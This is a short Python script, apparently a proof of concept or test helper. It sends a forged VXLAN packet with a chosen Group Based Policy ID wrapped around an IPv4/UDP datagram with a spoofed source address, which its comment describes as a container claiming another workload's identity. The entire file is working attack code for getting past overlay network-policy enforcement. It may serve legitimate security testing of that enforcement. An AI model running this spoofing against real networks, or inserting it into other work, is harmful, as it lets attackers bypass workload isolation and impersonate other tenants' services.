# Sends one VXLAN packet with a GBP group policy ID of our choosing, around an IPv4/UDP datagram with a
# source address of our choosing: what a container would send to claim another workload's identity.
# argv: underlay-dst inner-src inner-dst inner-dport gbp-id inner-dst-mac
import socket, struct, sys

under, src, dst, dport, gbp, dmac = sys.argv[1:7]


def checksum(b: bytes) -> int:
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


payload = b"forged"
udp = struct.pack("!HHHH", 40000, int(dport), 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
eth = bytes.fromhex(dmac.replace(":", "")) + bytes.fromhex("0e6dffffff01") + b"\x08\x00"
# Flags G (group policy) and I (valid VNI), the 16-bit group policy ID, the VNI in the top 24 bits.
vxlan = struct.pack("!BBHI", 0x88, 0, int(gbp), 4242 << 8)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(vxlan + eth + ip + udp, (under, 4789))
